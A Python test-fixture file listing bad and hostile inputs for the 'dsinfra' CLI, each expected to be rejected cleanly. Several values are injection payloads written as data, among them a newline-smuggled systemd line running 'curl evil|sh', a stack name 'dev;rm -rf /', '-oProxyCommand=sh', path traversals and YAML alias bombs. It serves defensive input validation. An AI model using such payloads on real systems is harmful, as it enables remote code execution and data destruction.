"""The bad inputs of issue 13, as a careless user and an attacker would write them: stack
files, stack names, inventories, model configs and flags. Every one must end in exit 2 with one
message, no traceback, no hang, nothing created or destroyed. Run by scripts/bad_inputs.py."""

from __future__ import annotations

import json
from dataclasses import dataclass, field

import yaml

GOOD_HOST_KEY = "SHA256:" + "A" * 43


@dataclass(frozen=True)
class Case:
    category: str
    name: str
    argv: list[str]
    # file contents; an int is a sparse file of that many bytes (a 600 MB file costs no disk)
    files: dict[str, str | bytes | int] = field(default_factory=dict)
    env: dict[str, str] = field(default_factory=dict)  # "{work}" is the case's folder


CASES: list[Case] = []


def _add(category: str, name: str, argv: list[str],
         files: dict[str, str | bytes | int] | None = None,
         env: dict[str, str] | None = None) -> None:
    CASES.append(Case(category, name, argv, files or {}, env or {}))


# --- stack files (`dsinfra plan bad`) --------------------------------------------------------

def _stack_yaml(**override) -> str:
    config = {"dsinfra:tier": "dev", "dsinfra:budget": {"amountUsd": 100}}
    config.update({f"dsinfra:{k}": v for k, v in override.items()})
    return yaml.safe_dump({"config": config}, allow_unicode=True)


def stack_text(name: str, text: str | bytes) -> None:
    _add("stack file", name, ["plan", "bad"], {"stacks/Pulumi.bad.yaml": text})


def stack_value(name: str, **override) -> None:
    stack_text(name, _stack_yaml(**override))


BASE = "config:\n  dsinfra:tier: dev\n  dsinfra:budget:\n    amountUsd: 100\n"
stack_text("binary", bytes(range(256)))
stack_text("latin-1", "config:\n  dsinfra:tier: dev\n  dsinfra:owner: J\xfcrgen\n".encode("latin-1"))
stack_text("utf-16 with BOM", BASE.encode("utf-16"))
stack_text("utf-32", BASE.encode("utf-32"))
stack_text("NUL byte", BASE + "  dsinfra:owner: a\x00b\n")
stack_text("control character", BASE + "  dsinfra:owner: a\x1bb\n")
stack_text("20,000 nested brackets", "config: " + "[" * 20_000 + "]" * 20_000 + "\n")
stack_text("200 nested mappings", "config:\n" + "".join(f"{'  ' * (i + 1)}k{i}:\n"
                                                        for i in range(200)))
stack_text("alias bomb", "config:\n  dsinfra:tier: dev\nx: &a [" + ",".join(["lol"] * 9) + "]\n"
           + "".join(f"x{i}: &a{i} [" + ",".join([f"*{'a' if i == 0 else f'a{i - 1}'}"] * 9)
                     + "]\n" for i in range(8)))
stack_text("recursive alias", "config: &c\n  dsinfra:tier: dev\n  self: *c\n")
stack_text("duplicate protect", BASE + "  dsinfra:protect: true\n  dsinfra:protect: false\n")
stack_text("duplicate tier", BASE + "  dsinfra:tier: prod\n")
stack_text("top-level list", "- config\n- dsinfra:tier\n")
stack_text("top-level scalar", "just a string\n")
stack_text("config is a list", "config: [1, 2]\n")
stack_text("config is a scalar", "config: 7\n")
stack_text("empty file", "")
stack_text("300 kB file", BASE + "# " + "x" * 300_000 + "\n")
stack_text("unterminated quote", BASE + "  dsinfra:owner: \"abc\n")
stack_value("ttlHours .inf", ttlHours=float("inf"))
stack_value("ttlHours 1e12", ttlHours=1e12)
stack_value("ttlHours -1", ttlHours=-1)
stack_value("ttlHours text", ttlHours="soon")
stack_value("ttlHours 7e7 with expiresAt", ttlHours=7e7, expiresAt="2026-12-01T18:00:00Z")
stack_value("expiresAt year 9999", expiresAt="9999-12-31T23:59:59Z")
stack_value("expiresAt garbage", expiresAt="next tuesday")
stack_value("amountUsd true", budget={"amountUsd": True})
stack_value("amountUsd 1e300", budget={"amountUsd": 1e300})
stack_value("amountUsd -5", budget={"amountUsd": -5})
stack_value("amountUsd .nan", budget={"amountUsd": float("nan")})
stack_value("amountUsd text", budget={"amountUsd": "lots"})
stack_value("warnAt 2", budget={"amountUsd": 100, "warnAt": 2})
stack_value("onExceed explode", budget={"amountUsd": 100, "onExceed": "explode"})
stack_value("owner 5,000 characters", owner="a" * 5000)
stack_value("owner with a newline", owner="alice\nbob")
stack_value("owner with U+202E", owner="alice\u202egnp.exe")
stack_value("owner empty", owner="")
stack_value("tag value with a newline", tags={"team": "a\nb"})
stack_value("tag key aws:", tags={"aws:createdBy": "me"})
stack_value("tag value 300 characters", tags={"team": "t" * 300})
stack_value("41 user tags", tags={f"k{i}": "v" for i in range(41)})
stack_value("tag value a list", tags={"team": ["a"]})
stack_value("model with a newline (unit injection)",
            model="org/m\nExecStartPre=/bin/sh -c 'curl evil|sh'")
stack_value("model without org", model="DeepSeek-R1")
stack_value("model with ..", model="org/../etc")
stack_value("model 100 kB", model="m" * 100_000)
stack_value("model a number", model=7)
stack_value("ssh 0.0.0.0/0", sshAllowedCidrs=["0.0.0.0/0"])
stack_value("ssh world in two /1", sshAllowedCidrs=["0.0.0.0/1", "128.0.0.0/1"])
stack_value("ssh ::/0", sshAllowedCidrs=["::/0"])
stack_value("ssh IPv6 world in two /1", sshAllowedCidrs=["::/1", "8000::/1"])
stack_value("ssh a /7", sshAllowedCidrs=["10.0.0.0/7"])
stack_value("ssh two /8s", sshAllowedCidrs=["10.0.0.0/8", "11.0.0.0/8"])
stack_value("ssh not a CIDR", sshAllowedCidrs=["my office"])
stack_value("ssh host bits set", sshAllowedCidrs=["203.0.113.7/24"])
stack_value("ssh a string, not a list", sshAllowedCidrs="203.0.113.0/24")
stack_value("api 0.0.0.0/0", apiAllowedCidrs=["0.0.0.0/0"])
stack_value("api world in pieces", apiAllowedCidrs=["0.0.0.0/2", "64.0.0.0/2", "128.0.0.0/1"])
stack_value("api on port 22 to the world", apiAllowedCidrs=["0.0.0.0/0"], apiPort=22)
stack_value("apiPort 22", apiAllowedCidrs=["203.0.113.0/24"], apiPort=22)
stack_value("engine port 22", engine={"name": "vllm", "port": 22})
stack_value("apiPort 0", apiPort=0)
stack_value("apiPort 70000", apiPort=70000)
stack_value("apiPort 22.5", apiPort=22.5)
stack_value("nodeCount 0", nodeCount=0)
stack_value("nodeCount true", nodeCount=True)
stack_value("nodeCount 1e9", nodeCount=10**9)
stack_value("maxModelLen 1e300", maxModelLen=1e300)
stack_value("rootVolumeGiB 10", rootVolumeGiB=10)
stack_value("region mars", region="mars-east-1")
stack_value("instanceType t3.micro", instanceType="t3.micro")
stack_value("tier staging", tier="staging")
stack_value("spot on prod", tier="prod", spot=True)
stack_value("zone of another region", availabilityZone="us-west-2a")
stack_value("zone with a newline", availabilityZone="us-east-1a\nx")
stack_value("amiId garbage", amiId="ami-xyz")
stack_value("capacityReservationId garbage", capacityReservationId="cr-!!")
stack_value("engineImage :latest", engineImage="vllm/vllm-openai:latest")
stack_value("custom engine without image", engine={"name": "custom"})
stack_value("engine extraArgs with a newline", engine={"name": "vllm", "extraArgs": ["--a\nb"]})
stack_value("engine healthPath with a newline",
            engine={"name": "vllm", "healthPath": "/h\nExecStart=/bin/sh"})
stack_value("custom command with a newline",
            engine={"name": "custom", "image": "a/b:1", "port": 8080, "command": ["x\ny"]})
stack_value("gpuMemoryUtilization 2", engine={"name": "vllm", "gpuMemoryUtilization": 2})
stack_value("sshPublicKey garbage", sshPublicKey="hello")
stack_value("unknown key", instanceTyp="g5.xlarge")
stack_value("precision fp4", precision="fp4")
stack_value("model too big for the instance", model="deepseek-ai/DeepSeek-R1")

# --- stack names on the command line ---------------------------------------------------------

for name, stack in [("path traversal", "../etc/passwd"), ("200 characters", "s" * 200),
                    ("newline", "dev\nprod"), ("empty", ""), ("unknown", "nosuchstack"),
                    ("dash first", "-dev"), ("shell characters", "dev;rm -rf /")]:
    _add("stack name", f"plan {name}", ["plan", stack])
_add("stack name", "up with a slash", ["up", "a/b"])

# --- inventories (`dsinfra bootstrap --inventory hosts.yaml`) --------------------------------

HOST = {"address": "10.0.0.5", "role": "head", "instance_type": "g5.xlarge"}


def inventory(name: str, document) -> None:
    text = document if isinstance(document, (str, bytes)) else \
        yaml.safe_dump(document, allow_unicode=True)
    _add("inventory", name, ["bootstrap", "--inventory", "hosts.yaml"], {"hosts.yaml": text})


inventory("binary", bytes(range(256)))
inventory("config: [1]", {"config": [1], "hosts": [HOST]})
inventory("host_key: 12345", {"hosts": [{**HOST, "host_key": 12345}]})
inventory("host_key not a key", {"hosts": [{**HOST, "host_key": "ssh-ed25519 !!!"}]})
inventory("missing key file", {"hosts": [{**HOST, "key": "keys/nope"}]})
inventory("port 22.5", {"hosts": [{**HOST, "port": 22.5}]})
inventory("port a string", {"hosts": [{**HOST, "port": "twenty-two"}]})
inventory("port 0", {"hosts": [{**HOST, "port": 0}]})
inventory("address [a]", {"hosts": [{**HOST, "address": ["a"]}]})
inventory("address with a newline", {"hosts": [{**HOST, "address": "10.0.0.5\nx"}]})
inventory("address as an ssh option", {"hosts": [{**HOST, "address": "-oProxyCommand=sh"}]})
inventory("user injection", {"hosts": [{**HOST, "user": "ubuntu;id"}]})
inventory("name path traversal", {"hosts": [{**HOST, "name": "../../etc/cron.d/x"}]})
inventory("role boss", {"hosts": [{**HOST, "role": "boss"}]})
inventory("instance_type t3.micro", {"hosts": [{**HOST, "instance_type": "t3.micro"}]})
inventory("no hosts", {"hosts": []})
inventory("hosts a string", {"hosts": "gpu-0"})
inventory("two heads", {"hosts": [HOST, {**HOST, "address": "10.0.0.6"}]})
inventory("no head", {"hosts": [{**HOST, "role": "worker"}]})
inventory("gateway port 0", {"hosts": [{**HOST, "gateway": {"address": "b", "port": 0}}]})
inventory("gateway string with a bad port", {"hosts": [{**HOST, "gateway": "ops@b:ssh"}]})
inventory("unknown host key", {"hosts": [{**HOST, "passwd": "hunter2"}]})
inventory("alias bomb", "hosts: &h [" + ",".join(["1"] * 9) + "]\n" + "".join(
    f"h{i}: &h{i} [" + ",".join([f"*{'h' if i == 0 else f'h{i - 1}'}"] * 9) + "]\n"
    for i in range(8)))
inventory("duplicate hosts key", "hosts: []\nhosts: [1]\n")
inventory("config model injection", {"config": {"model": "a/b\nExecStartPre=/bin/sh"},
                                     "hosts": [{**HOST, "host_key": GOOD_HOST_KEY}]})
inventory("config ttlHours .inf", {"config": {"ttlHours": float("inf")},
                                   "hosts": [{**HOST, "host_key": GOOD_HOST_KEY}]})
_add("inventory", "file missing", ["bootstrap", "--inventory", "nope.yaml"])
_add("inventory", "a directory", ["bootstrap", "--inventory", "stacks"])

# --- model configs and names (`dsinfra size`) ------------------------------------------------

LLAMA = {"model_type": "llama", "num_hidden_layers": 32, "hidden_size": 4096,
         "intermediate_size": 14336, "num_attention_heads": 32, "num_key_value_heads": 8,
         "vocab_size": 128256, "max_position_embeddings": 131072}
MIXTRAL = {**LLAMA, "model_type": "mixtral", "vocab_size": 32000, "num_local_experts": 8,
           "num_experts_per_tok": 2, "max_position_embeddings": 32768}


def model_config(name: str, content) -> None:
    text = content if isinstance(content, (str, bytes)) else json.dumps(content)
    _add("model config", name, ["size", "model"], {"model/config.json": text})


model_config("num_attention_heads 0", {**LLAMA, "num_attention_heads": 0})
model_config("negative layers", {**LLAMA, "num_hidden_layers": -3})
model_config("hidden_size 0", {**LLAMA, "hidden_size": 0})
model_config("vocab_size 1e300", {**LLAMA, "vocab_size": 1e300})
model_config("vocab_size true", {**LLAMA, "vocab_size": True})
model_config("model_type gpt2", {**LLAMA, "model_type": "gpt2"})
model_config("no model_type", {k: v for k, v in LLAMA.items() if k != "model_type"})
model_config("experts per token > experts", {**MIXTRAL, "num_experts_per_tok": 9})
model_config("Qwen-MoE sparse step 2", {**LLAMA, "model_type": "qwen2_moe", "num_experts": 60,
                                        "num_experts_per_tok": 4, "moe_intermediate_size": 1408,
                                        "decoder_sparse_step": 2})
model_config("num_experts on a dense llama", {**LLAMA, "num_experts": 8})
model_config("kv heads not dividing heads", {**LLAMA, "num_key_value_heads": 7})
model_config("100,000 nested lists", "[" * 100_000 + "]" * 100_000)
model_config("not JSON", "{model_type: llama")
model_config("a JSON list", "[1, 2, 3]")
model_config("not UTF-8", b"\xff\xfe{\x00}")
for name, argv in [("model name 100 kB", ["size", "m" * 100_000]),
                   ("model name with a newline", ["size", "org/a\nb"]),
                   ("unknown model", ["size", "DeepSeek-R9"]),
                   ("--context 0", ["size", "DeepSeek-V3", "--context", "0"]),
                   ("--context -5", ["size", "DeepSeek-V3", "--context", "-5"]),
                   ("--concurrency 0", ["size", "DeepSeek-V3", "--concurrency", "0"]),
                   ("--concurrency 10**400", ["size", "DeepSeek-V3", "--concurrency",
                                              "1" + "0" * 400]),
                   ("--precision fp4", ["size", "DeepSeek-V3", "--precision", "fp4"]),
                   ("--kv-cache-dtype x", ["size", "DeepSeek-V3", "--kv-cache-dtype", "x"]),
                   ("--region mars", ["size", "DeepSeek-V3", "--region", "mars"]),
                   ("--max-nodes 0", ["size", "DeepSeek-V3", "--max-nodes", "0"])]:
    _add("model config", name, argv)

# --- flags and terminals ---------------------------------------------------------------------

ADVISE = ["advise", "--hardware-price", "2500", "--local-monthly", "40"]
for name, argv in [
        ("down without a terminal", ["down", "good"]),
        ("guard destroy without a terminal", ["guard", "destroy"]),
        ("up without a terminal", ["up", "good"]),
        ("advise price inf", ["advise", "--hardware-price", "inf", "--local-monthly", "40"]),
        ("advise price nan", ["advise", "--hardware-price", "nan", "--local-monthly", "40"]),
        ("advise price -1", ["advise", "--hardware-price", "-1", "--local-monthly", "40"]),
        ("advise cloud 1e308", [*ADVISE, "--cloud-monthly", "1e308"]),
        ("advise horizon 0", [*ADVISE, "--horizon-months", "0"]),
        ("advise horizon 1e9", [*ADVISE, "--horizon-months", "1000000000"]),
        ("advise nodes 0", [*ADVISE, "--nodes", "0"]),
        ("advise nodes 1e12", [*ADVISE, "--nodes", "1000000000000"]),
        ("advise usage hours 0", [*ADVISE, "--usage-hours", "0"]),
        ("advise ops experience", [*ADVISE, "--ops-experience", "guru"]),
        ("bootstrap stack and inventory", ["bootstrap", "good", "--inventory", "h.yaml"]),
        ("bootstrap neither", ["bootstrap"]),
        ("bootstrap ssh key missing", ["bootstrap", "good", "--ssh-key", "/nonexistent"]),
        ("size context not a number", ["size", "DeepSeek-V3", "--context", "lots"]),
        ("unknown command", ["explode"]),
        ("unknown flag", ["plan", "good", "--no-such-flag"])]:
    _add("flags", name, argv)

# --- issue 24: grammars, hostile numbers and files, env vars, the state folder ---------------

BLOCK = {"availabilityZone": "us-east-1a", "instanceType": "p5.48xlarge", "instanceCount": 1,
         "start": "2026-01-01T00:00:00Z", "end": "2026-01-02T00:00:00Z"}
RESERVED = {"instanceType": "p5.48xlarge", "capacityReservationId": "cr-0123456789abcdef0"}
TOPIC = "arn:aws:sns:us-east-1:123456789012:alerts"


def _stack24(name: str, **override) -> None:
    _add("issue 24", name, ["plan", "bad"], {"stacks/Pulumi.bad.yaml": _stack_yaml(**override)})


_stack24("idleMinutes 400 digits", idleMinutes=10 ** 400)
_stack24("idleMinutes 400-digit string", idleMinutes="9" * 400)
_stack24("capacityBlock nested 100,000 deep", **RESERVED, capacityBlock="[" * 100_000)
_stack24("capacityBlock ending in year 1", **RESERVED,
         capacityBlock={**BLOCK, "end": "0001-01-01T00:00:00Z"})
_stack24("capacityBlock in year 1 as a string", **RESERVED, capacityBlock=json.dumps(
    {**BLOCK, "start": "0001-01-01T00:00:00Z", "end": "0001-01-01T02:00:00Z"}))
_stack24("capacityBlock ending before it starts", **RESERVED,
         capacityBlock={**BLOCK, "end": "2025-12-31T00:00:00Z"})
_stack24("model with a trailing newline", model="deepseek-ai/DeepSeek-R1\n")
_stack24("modelCache a bucket wildcard", modelCache="s3://corp-data/*")
_stack24("modelCache a prefix wildcard", modelCache="s3://corp-data/hf*")
_stack24("modelCache with a trailing newline", modelCache="s3://corp-data/hf\n")
_stack24("notifyTopicArn with a trailing newline",
         budget={"amountUsd": 100, "notifyTopicArn": TOPIC + "\n"})
_stack24("notifyTopicArn with Devanagari digits",
         budget={"amountUsd": 100, "notifyTopicArn": TOPIC.replace("123", "\u0967\u0968\u0969")})
_add("issue 24", "inventory idleMinutes 400 digits", ["bootstrap", "--inventory", "hosts.yaml"],
     {"hosts.yaml": yaml.safe_dump({"config": {"idleMinutes": 10 ** 400},
                                    "hosts": [{**HOST, "host_key": GOOD_HOST_KEY}]})})
_add("issue 24", "inventory IPv6 zone id with a newline",
     ["bootstrap", "--inventory", "hosts.yaml"],
     {"hosts.yaml": yaml.safe_dump({"hosts": [{**HOST, "address": "fe80::1%eth0\nx",
                                               "host_key": GOOD_HOST_KEY}]})})
_add("issue 24", "config.json with a 5000-digit int", ["size", "model"],
     {"model/config.json": json.dumps(LLAMA).replace("4096", "9" * 5000, 1)})
_add("issue 24", "config.json of 600 MB", ["size", "model"],
     {"model/config.json": 600 * 1024 * 1024})
for var in ("DSINFRA_CHECK_DEADLINE_S", "DSINFRA_CHECK_INTERVAL_S"):
    for value in ("abc", "nan", "inf", "1e999", "0"):
        _add("issue 24", f"{var}={value}", ["cost", "check", "--json"], env={var: value})
_add("issue 24", "state folder under a file", ["cost", "audit"],
     env={"DSINFRA_STATE_DIR": "{work}/Pulumi.yaml/state"})
